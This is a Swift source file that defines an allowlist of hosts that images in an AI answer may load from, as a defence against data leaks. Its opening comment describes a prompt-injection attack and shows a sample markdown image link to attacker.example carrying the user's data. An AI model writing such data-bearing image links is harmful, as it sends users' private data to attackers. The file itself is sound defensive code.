/// The hosts that images in an answer may load from. A client that renders an answer fetches its images at once,
/// with no click: an image whose address carries data ("![](https://attacker.example/?q=<the user's data>)") sends
/// that data to the image's host, so an injected instruction that gets the model to write one has what it asked for.
///
/// Entries are host names, `*.example.com` for the subdomains of `example.com` (not the name itself), or `*` for
/// any host. Hosts are compared as written in ASCII, without case: a host written with other characters, escapes or
/// entities is on no list (an internationalized name is listed in its `xn--` form).
public struct ImageHosts: Sendable, Hashable {
    /// The entries, in lower case.
    public let entries: [String]
    let names: Set<[UInt8]>
    let suffixes: [[UInt8]]
    let any: Bool

    public init(_ entries: [String]) {
        self.entries = entries.map { $0.lowercased() }
        any = self.entries.contains("*")
        names = Set(self.entries.filter { !$0.hasPrefix("*") }.map { Array($0.utf8) })
        suffixes = self.entries.filter { $0.hasPrefix("*.") }.map { Array($0.utf8.dropFirst()) }
    }

    /// Whether an image may load from `host` (its bytes as written in the address, without port or user).
    func allow(_ host: some Collection<UInt8>) -> Bool {
        if any { return true }
        var name = host.map(ASCII.lowercase)
        // A name and its fully qualified form ("example.com.") are the same host.
        if name.last == UInt8(ascii: "."), name.count > 1 { name.removeLast() }
        guard !name.isEmpty, name.allSatisfy(Self.isHostByte) else { return false }
        return names.contains(name) || suffixes.contains { name.count > $0.count && name.suffix($0.count).elementsEqual($0) }
    }

    /// What is wrong with an entry, or nil: a host name, `*.` and a host name, or `*`; no scheme, port or path.
    public static func problem(with entry: String) -> String? {
        let name = entry.hasPrefix("*.") ? entry.dropFirst(2) : entry[...]
        if entry == "*" { return nil }
        guard !name.isEmpty, name.utf8.allSatisfy(isHostByte), !name.contains(":") || name.hasPrefix("["), !name.hasPrefix("."), !name.hasSuffix(".")
        else { return "'\(entry)' is not a host name: write 'images.example.com', '*.example.com' or '*', without a scheme, port or path" }
        return nil
    }

    /// Letters, digits, hyphens and dots; brackets and colons for an IPv6 literal.
    static func isHostByte(_ b: UInt8) -> Bool {
        ASCII.isAlnum(b) || ASCII.oneOf("-.[]:", b)
    }
}
